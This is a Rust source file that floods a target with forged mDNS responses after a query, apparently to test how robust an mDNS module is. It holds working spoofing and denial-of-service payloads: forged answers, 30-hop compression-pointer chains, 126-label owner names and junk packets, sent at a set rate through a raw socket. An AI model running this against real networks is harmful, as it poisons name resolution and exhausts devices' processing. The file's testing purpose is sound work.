//! A flood: packets at a high rate for 2.5 s after a query.

use super::context::{Context, Query, Victim};
use crate::datagram::{Datagram, group_mac};
use crate::packet_socket::Link;
use crate::wire::Message;
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};
use test_packet::{GROUP_V4, MDNS_PORT, Packet, RESPONSE, pointer, types, wire, wire_of_labels};

/// How long a flood lasts.
const LENGTH: Duration = Duration::from_millis(2500);

/// `flood VICTIM PAYLOAD RATE`: floods the victim after the first query for each name. Prints `query NAME` when the
/// flood starts and `flooded NAME PACKETS MICROSECONDS` when it ends.
pub(super) fn main(victim: &Victim, payload: &str, rate: &str) -> Result<(), String> {
    let rate: u32 = rate.parse().map_err(|_| format!("{rate}: not a number"))?;
    let link = Link::open("eth0").map_err(|why| why.to_string())?;
    link.bypass_queue();
    super::raise_priority();
    println!("ready");
    let mut buffer = vec![0; 65_536];
    let mut last = String::new();
    loop {
        let query = next_query(&link, &mut buffer)?;
        // A retransmission of a lookup that has been flooded already.
        if query.name == last {
            continue;
        }
        last.clone_from(&query.name);
        println!("query {}", query.name);
        let packets = packets(&query, victim, payload)?;
        let frames: Vec<_> = packets.into_iter().map(|packet| (mac(&packet, victim), packet)).collect();
        let start = Instant::now();
        let mut sent: u32 = 0;
        while start.elapsed() < LENGTH {
            let due = f64::from(rate) * start.elapsed().as_secs_f64();
            while f64::from(sent) < due {
                let at = usize::try_from(sent).unwrap_or_default() % frames.len();
                if let Some((mac, packet)) = frames.get(at) {
                    // When the kernel's queue is full the packet is lost, as on any network.
                    let _ = link.send(*mac, packet);
                }
                sent += 1;
            }
            std::thread::sleep(Duration::from_micros(50));
        }
        println!("flooded {} {sent} {}", query.name, start.elapsed().as_micros());
    }
}

/// Waits for a query to the IPv4 group.
fn next_query(link: &Link, buffer: &mut [u8]) -> Result<Query, String> {
    loop {
        let arrival = link.receive_incoming(buffer).map_err(|why| why.to_string())?;
        let Some(datagram) = buffer.get(..arrival.length).and_then(Datagram::parse) else { continue };
        if datagram.destination.ip() != IpAddr::from(GROUP_V4) {
            continue;
        }
        let message = Message::parse(datagram.payload).filter(|message| message.flags & RESPONSE == 0);
        let Some(message) = message else { continue };
        if let Some(question) = message.questions.into_iter().next() {
            let (ip, port) = (datagram.source.ip(), datagram.source.port());
            return Ok(Query { link: 0, name: question.name, rtype: question.rtype, id: message.id, ip, port });
        }
    }
}

/// The packets of the flood, over IPv4: alternately to the querier and to the group.
fn packets(query: &Query, victim: &Victim, payload: &str) -> Result<Vec<Vec<u8>>, String> {
    let context = Context { query, earlier: &[], victims: std::slice::from_ref(victim) };
    let message = match payload {
        // The right id and question, and addresses of another name.
        "others" => context.forged_for(&wire("other.local")),
        // As many records as a frame holds. Every owner is at the end of 30 compression pointers.
        "heavy" => many_pointers(query.id),
        // As many records as a frame holds. Every owner has 126 labels, so the victim cannot process all packets in
        // time.
        "overload" => many_labels(query.id),
        "garbage" => Packet::new(query.id).raw(&[0xa5; 40]),
        _ => return Err(format!("{payload}: not others, heavy, overload or garbage")),
    };
    let source = SocketAddr::new(context.neighbour(0, false), MDNS_PORT);
    let querier = SocketAddr::new(query.ip, query.port);
    let destinations = [querier, (GROUP_V4, MDNS_PORT).into()];
    let payload = message.octets();
    let datagrams = destinations.map(|destination| Datagram { source, destination, hop_limit: 255, payload });
    Ok(datagrams.iter().flat_map(Datagram::packets).collect())
}

/// The octets of a record before its data, if its owner is the root.
const BEFORE_DATA: usize = 11;

fn many_pointers(id: u16) -> Packet {
    let packet = Packet::new(id);
    // The chain of pointers is in the data of a first record, of a type that the module ignores.
    let data = packet.len() + BEFORE_DATA;
    let mut chain = b"\x01x\x00".to_vec();
    for hop in 0..30 {
        chain.extend(pointer(if hop == 0 { data } else { data + 1 + 2 * hop }));
    }
    let last = data + chain.len() - 2;
    fill(packet.record(&[0], types::TXT, &chain), last)
}

fn many_labels(id: u16) -> Packet {
    let packet = Packet::new(id);
    let labels = packet.len() + BEFORE_DATA;
    fill(packet.record(&[0], types::TXT, &wire_of_labels(&[b"x".as_slice(); 126])), labels)
}

/// Adds A records until the frame is full. The owner of each is a pointer to this offset.
fn fill(mut packet: Packet, owner: usize) -> Packet {
    while packet.len() < 1400 {
        packet = packet.record(&pointer(owner), types::A, &[10, 66, 6, 6]);
    }
    packet
}

fn mac(packet: &[u8], victim: &Victim) -> [u8; 6] {
    let destination = Datagram::parse(packet).map(|datagram| datagram.destination.ip());
    destination.and_then(group_mac).unwrap_or(victim.mac)
}
